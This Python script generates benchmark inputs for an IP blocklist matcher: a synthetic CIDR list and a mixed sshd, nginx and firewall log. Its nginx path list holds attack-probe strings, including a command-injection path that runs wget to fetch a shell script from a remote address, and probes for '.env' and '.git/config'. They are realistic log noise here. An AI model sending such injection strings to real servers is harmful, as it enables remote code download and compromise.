#!/usr/bin/env python3
"""bench/gen_grep.py - deterministic inputs for bench/bench_grep.sh.

    python3 bench/gen_grep.py [--entries N] [--lines N] [--match F] [--seed S] OUTDIR

writes, from a fixed seed (same arguments, same bytes on every machine):

- OUTDIR/list.txt: N entries (default 100,000), one address or CIDR a line
  after a '#' header, shuffled, weighted like public blocklists (FireHOL,
  Spamhaus DROP, abuse.ch): mostly single IPv4 addresses, then /24s, /25-/31,
  /16-/23, a few /9-/15 and bogon /4-/8 blocks, and 2% IPv6 (/32-/64
  prefixes and single /128 addresses). Prefixes are aligned.
- OUTDIR/log.txt: N lines (default 10,000,000) of a mixed log: sshd (45%),
  nginx access in the combined format (40%) and iptables/UFW firewall lines
  (15%), with 0-3 addresses each (5% of the sshd and firewall traffic is
  IPv6), and about a fraction F (default 0.02) of the lines holding a listed
  address. Every other address (sources, destinations, X-Forwarded-For
  chains, referrers, browser versions that read as dotted quads such as
  "Chrome/120.0.0.0") is checked to be outside the list, so the matching
  share is what --match says. Timestamps, MAC addresses and hex tokens give
  the scanners the false starts a real log gives them.

No IPv4-mapped IPv6 address ("::ffff:1.2.3.4") is written: Canh looks those
up as IPv4 and grepcidr does not, and the benchmark compares outputs.
"""
import argparse
import bisect
import ipaddress
import os
import random

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
T0 = 1795194000  # 2026-11-21 00:00:00 +07:00
TZ = 7 * 3600

# (prefix length range, share of the IPv4 entries). Bogon blocks are added
# separately.
V4_MIX = [((32, 32), 0.78), ((24, 24), 0.12), ((25, 31), 0.035), ((16, 23), 0.06),
          ((9, 15), 0.005)]
BOGONS = ["0.0.0.0/8", "224.0.0.0/4", "240.0.0.0/4", "198.18.0.0/15", "192.0.2.0/24",
          "198.51.100.0/24", "203.0.113.0/24"]
# Never listed: private space (firewall destinations) and the browser
# versions that look like addresses.
UA = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.97",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/119.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.1.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "zgrab/0.x",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
]
RESERVED = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "100.64.0.0/10",
            "120.0.0.0/32", "119.0.0.0/32", "2001:db8::/32", "fe80::/10"]
PATHS = ["/", "/index.html", "/login", "/api/v1/items?page=2", "/static/js/app.3f9c2b.js",
         "/static/css/site.css", "/images/logo.png", "/favicon.ico", "/robots.txt",
         "/wp-login.php", "/.env", "/admin/config.php", "/cgi-bin/luci/;stok=/locale",
         "/search?q=tra+cuu+ho+so", "/news/2026/11/21/thong-bao.html", "/api/v2/health",
         "/phpmyadmin/index.php", "/shell?cd+/tmp;wget+http://{ip}/x.sh", "/.git/config"]
USERS = ["root", "admin", "ubuntu", "oracle", "test", "user", "git", "postgres", "deploy",
         "nagios", "ftpuser", "pi", "support", "guest", "hadoop", "minh", "lan", "tuan"]
HOSTS = ["bastion", "web01", "web02", "vpn-gw", "db01", "mail", "ci-runner-3"]


def civil(t):
    """(year, month, day, hh, mm, ss) of local time t."""
    t += TZ
    days, rem = divmod(t, 86400)
    hh, rem = divmod(rem, 3600)
    mm, ss = divmod(rem, 60)
    z = days + 719468
    era = z // 146097
    doe = z - era * 146097
    yoe = (doe - doe // 1460 + doe // 36524 - doe // 146096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return (y + (m <= 2), m, d, hh, mm, ss)


class Ranges:
    """Merged [lo, hi] integer ranges for covered-by checks."""

    def __init__(self, spans):
        spans.sort()
        lo, hi = [], []
        for a, b in spans:
            if hi and a <= hi[-1] + 1:
                hi[-1] = max(hi[-1], b)
            else:
                lo.append(a)
                hi.append(b)
        self.lo, self.hi = lo, hi

    def covers(self, x):
        i = bisect.bisect_right(self.lo, x) - 1
        return i >= 0 and x <= self.hi[i]


def span(net):
    return int(net.network_address), int(net.broadcast_address)


def make_list(rng, n):
    n6 = n * 2 // 100
    n4 = n - n6 - len(BOGONS)
    reserved = [ipaddress.ip_network(r) for r in RESERVED]
    res4 = Ranges([span(r) for r in reserved if r.version == 4])
    res6 = Ranges([span(r) for r in reserved if r.version == 6])
    entries, v4spans, v6spans = [], [], []
    for b in BOGONS:
        net = ipaddress.ip_network(b)
        entries.append((net, b))
        v4spans.append(span(net))
    counts = [int(n4 * share) for _, share in V4_MIX]
    counts[0] += n4 - sum(counts)
    for ((lo_len, hi_len), _), cnt in zip(V4_MIX, counts):
        made = 0
        while made < cnt:
            plen = rng.randint(lo_len, hi_len)
            # public unicast, first octet 1-223
            addr = rng.randint(1 << 24, (224 << 24) - 1)
            addr &= ~((1 << (32 - plen)) - 1) & 0xFFFFFFFF
            a, b = addr, addr | ((1 << (32 - plen)) - 1)
            # a prefix touching reserved space is drawn again
            i = bisect.bisect_right(res4.lo, b) - 1
            if i >= 0 and res4.hi[i] >= a:
                continue
            text = str(ipaddress.IPv4Address(addr)) + ("" if plen == 32 else "/%d" % plen)
            entries.append((ipaddress.ip_network((addr, plen)), text))
            v4spans.append((a, b))
            made += 1
    made = 0
    while made < n6:
        plen = rng.choice([32, 36, 40, 44, 48, 48, 48, 56, 64, 64, 64, 128, 128])
        addr = (0x2000 + rng.randint(0, 0x3FF)) << 112 | rng.getrandbits(112)
        addr &= ~((1 << (128 - plen)) - 1) & ((1 << 128) - 1)
        a, b = addr, addr | ((1 << (128 - plen)) - 1)
        i = bisect.bisect_right(res6.lo, b) - 1
        if i >= 0 and res6.hi[i] >= a:
            continue
        net = ipaddress.ip_network((addr, plen))
        text = str(net.network_address) + ("" if plen == 128 else "/%d" % plen)
        entries.append((net, text))
        v6spans.append((a, b))
        made += 1
    rng.shuffle(entries)
    return entries, Ranges(v4spans), Ranges(v6spans)


class Addrs:
    """Clean (unlisted) and listed addresses, as text, drawn at random."""

    def __init__(self, rng, entries, r4, r6):
        self.rng = rng
        self.r4, self.r6 = r4, r6
        self.listed4 = [e for e in entries if e[0].version == 4 and e[1] not in BOGONS]
        self.listed6 = [e for e in entries if e[0].version == 6]
        # Attackers repeat: a pool of clean sources, drawn with a skew.
        self.pool4 = [self._clean4() for _ in range(50000)]
        self.pool6 = [self._clean6() for _ in range(5000)]

    def _clean4(self):
        while True:
            a = self.rng.randint(1 << 24, (224 << 24) - 1)
            if not self.r4.covers(a) and not (167772160 <= a <= 184549375):
                return str(ipaddress.IPv4Address(a))

    def _clean6(self):
        while True:
            a = (0x2000 + self.rng.randint(0, 0x3FF)) << 112 | self.rng.getrandbits(112)
            if not self.r6.covers(a):
                return ipaddress.IPv6Address(a).compressed

    def clean4(self):
        r = self.rng.random()
        if r < 0.7:
            return self.pool4[int(len(self.pool4) * r * r / 0.49) % len(self.pool4)]
        return self._clean4()

    def clean6(self):
        return self.pool6[self.rng.randrange(len(self.pool6))]

    def listed(self, v6):
        net, _ = self.rng.choice(self.listed6 if v6 else self.listed4)
        size = net.num_addresses
        off = self.rng.randrange(size) if size > 1 else 0
        a = net.network_address + off
        return a.compressed if v6 else str(a)

    def internal(self):
        r = self.rng
        return "10.%d.%d.%d" % (r.randint(0, 3), r.randint(0, 255), r.randint(1, 254))


def gen_log(rng, addrs, lines, match, out):
    t = T0
    frac = 0
    cache_sec, syslog_ts, nginx_ts, uptime = None, "", "", 0.0
    buf = []
    pid = 20000
    for i in range(lines):
        frac += rng.randint(0, 17)
        if frac >= 1000:
            t += frac // 1000
            frac %= 1000
        if t != cache_sec:
            cache_sec = t
            y, mo, d, hh, mm, ss = civil(t)
            syslog_ts = "%s %2d %02d:%02d:%02d" % (MONTHS[mo - 1], d, hh, mm, ss)
            nginx_ts = "%02d/%s/%d:%02d:%02d:%02d +0700" % (d, MONTHS[mo - 1], y, hh, mm, ss)
        hit = rng.random() < match
        kind = rng.random()
        if kind < 0.45:
            v6 = rng.random() < 0.05
            ip = addrs.listed(v6) if hit else (addrs.clean6() if v6 else addrs.clean4())
            pid += rng.randint(0, 3)
            host = HOSTS[rng.randrange(len(HOSTS))]
            user = USERS[rng.randrange(len(USERS))]
            port = rng.randint(1024, 65535)
            m = rng.random()
            if m < 0.40:
                msg = "Failed password for %s%s from %s port %d ssh2" % (
                    "invalid user " if rng.random() < 0.5 else "", user, ip, port)
            elif m < 0.55:
                msg = "Invalid user %s from %s port %d" % (user, ip, port)
            elif m < 0.70:
                msg = "Connection closed by authenticating user %s %s port %d [preauth]" % (
                    user, ip, port)
            elif m < 0.80:
                msg = "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ip, port)
            elif m < 0.85:
                msg = ("Accepted publickey for %s from %s port %d ssh2: ED25519 "
                       "SHA256:%032x" % (user, ip, port, rng.getrandbits(128)))
            elif hit:
                msg = "Disconnected from invalid user %s %s port %d [preauth]" % (user, ip, port)
            elif m < 0.93:
                # no address
                msg = "pam_unix(sshd:session): session %s for user %s(uid=%d) by (uid=0)" % (
                    rng.choice(["opened", "closed"]), user, rng.randint(0, 1500))
            else:
                msg = ("error: kex_exchange_identification: Connection closed by remote host")
            line = "%s %s sshd[%d]: %s" % (syslog_ts, host, pid, msg)
        elif kind < 0.85:
            ip = addrs.listed(False) if hit else addrs.clean4()
            path = PATHS[rng.randrange(len(PATHS))]
            if "{ip}" in path:
                path = path.replace("{ip}", addrs.clean4())
            status = rng.choice([200, 200, 200, 200, 304, 301, 404, 404, 403, 500])
            size = rng.randint(0, 250000) if status == 200 else rng.randint(0, 600)
            ref = rng.random()
            if ref < 0.6:
                ref = "-"
            elif ref < 0.9:
                ref = "https://portal.example.gov.vn/news/%d" % rng.randint(1, 9999)
            else:
                ref = "http://%s/" % addrs.clean4()
            ua = UA[rng.randrange(len(UA))]
            line = '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"' % (
                ip, nginx_ts, rng.choice(["GET", "GET", "GET", "POST", "HEAD"]), path, status,
                size, ref, ua)
            if rng.random() < 0.15:
                line += ' "%s, %s"' % (addrs.clean4(), addrs.internal())
        else:
            v6 = rng.random() < 0.05
            uptime += rng.random() * 0.5
            mac = ":".join("%02x" % rng.randrange(256) for _ in range(14))
            if v6:
                src = addrs.listed(True) if hit else addrs.clean6()
                dst = addrs.clean6()
                line = ("%s fw01 kernel: [%.6f] [UFW BLOCK] IN=eth0 OUT= MAC=%s SRC=%s DST=%s "
                        "LEN=80 TC=0 HOPLIMIT=%d FLOWLBL=%d PROTO=TCP SPT=%d DPT=%d WINDOW=64800 "
                        "RES=0x00 SYN URGP=0" % (syslog_ts, uptime, mac, src, dst,
                                                 rng.randint(40, 64), rng.randint(0, 999999),
                                                 rng.randint(1024, 65535),
                                                 rng.choice([22, 23, 80, 443, 3389, 5900])))
            else:
                src = addrs.listed(False) if hit else addrs.clean4()
                dst = addrs.internal() if rng.random() < 0.7 else addrs.clean4()
                proto = rng.choice(["TCP", "TCP", "TCP", "UDP"])
                line = ("%s fw01 kernel: [%.6f] [UFW BLOCK] IN=eth0 OUT= MAC=%s SRC=%s DST=%s "
                        "LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d %sPROTO=%s SPT=%d DPT=%d %s" % (
                            syslog_ts, uptime, mac, src, dst, rng.randint(40, 1500),
                            rng.randint(30, 250), rng.randint(0, 65535),
                            "DF " if rng.random() < 0.5 else "", proto,
                            rng.randint(1024, 65535), rng.choice([22, 23, 80, 443, 3389, 5060]),
                            "WINDOW=1024 RES=0x00 SYN URGP=0" if proto == "TCP" else "LEN=20"))
        buf.append(line)
        if len(buf) >= 100000:
            out.write("\n".join(buf))
            out.write("\n")
            buf = []
    if buf:
        out.write("\n".join(buf))
        out.write("\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--entries", type=int, default=100000)
    ap.add_argument("--lines", type=int, default=10000000)
    ap.add_argument("--match", type=float, default=0.02)
    ap.add_argument("--seed", type=int, default=20261121)
    ap.add_argument("outdir")
    a = ap.parse_args()
    os.makedirs(a.outdir, exist_ok=True)
    rng = random.Random(a.seed)
    entries, r4, r6 = make_list(rng, a.entries)
    with open(os.path.join(a.outdir, "list.txt"), "w", encoding="ascii", newline="\n") as f:
        f.write("# bench/gen_grep.py: %d entries, seed %d\n" % (a.entries, a.seed))
        for _, text in entries:
            f.write(text + "\n")
    addrs = Addrs(rng, entries, r4, r6)
    with open(os.path.join(a.outdir, "log.txt"), "w", encoding="ascii", newline="\n",
              buffering=1 << 20) as f:
        gen_log(rng, addrs, a.lines, a.match, f)


if __name__ == "__main__":
    main()
